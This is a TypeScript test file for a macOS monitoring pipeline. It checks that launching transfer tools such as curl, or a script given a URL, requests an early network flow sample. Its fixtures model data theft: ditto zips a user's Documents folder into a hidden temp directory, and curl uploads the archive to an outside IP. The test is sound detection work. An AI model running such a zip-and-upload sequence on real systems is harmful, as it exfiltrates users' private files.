/**
 * The exec of a transfer tool asks for an early flow sample (PipelineDeps.onTransferStart → the nettop collector):
 * curl's short upload may start and end between two samples. Every exec counts, the fast path's too.
 */
import { describe, expect, it } from 'vitest';
import { body, esLine } from './testing/es-lines.mjs';
import { pipelineWorld } from './testing/test-context.js';

const NOW = 1_780_000_000;
const ZSH = { pid: 4_400_001, ppid: 1, path: '/bin/zsh', platform: true, signingId: 'com.apple.zsh', startMs: (NOW - 600) * 1000 };
const exec = (gseq: number, path: string, args: string[]) =>
  esLine({ kind: 'exec', timeMs: NOW * 1000 + gseq, gseq, process: ZSH, body: body.exec({ pid: 4_400_100 + gseq, ppid: ZSH.pid, path, platform: true, startMs: NOW * 1000 + gseq }, args, '/tmp', 10) });

describe('early flow sample at the exec of a transfer', () => {
  it('curl, and a script given a URL, ask for one; ls and ditto do not', () => {
    let asked = 0;
    const { pipeline } = pipelineWorld({ now: NOW, onTransferStart: () => asked++ });
    pipeline.handleLine(exec(1, '/bin/ls', ['ls', '-la']));
    pipeline.handleLine(exec(2, '/usr/bin/ditto', ['ditto', '-c', '-k', '/Users/a/Documents', '/tmp/.x/d.zip']));
    expect(asked).toBe(0);
    pipeline.handleLine(exec(3, '/usr/bin/curl', ['curl', '-F', 'f=@/tmp/.x/d.zip', 'http://203.0.113.9/up']));
    expect(asked).toBe(1);
    pipeline.handleLine(exec(4, '/usr/bin/python3', ['python3', 'up.py', 'https://paste.example/api']));
    expect(asked).toBe(2);
  });
});
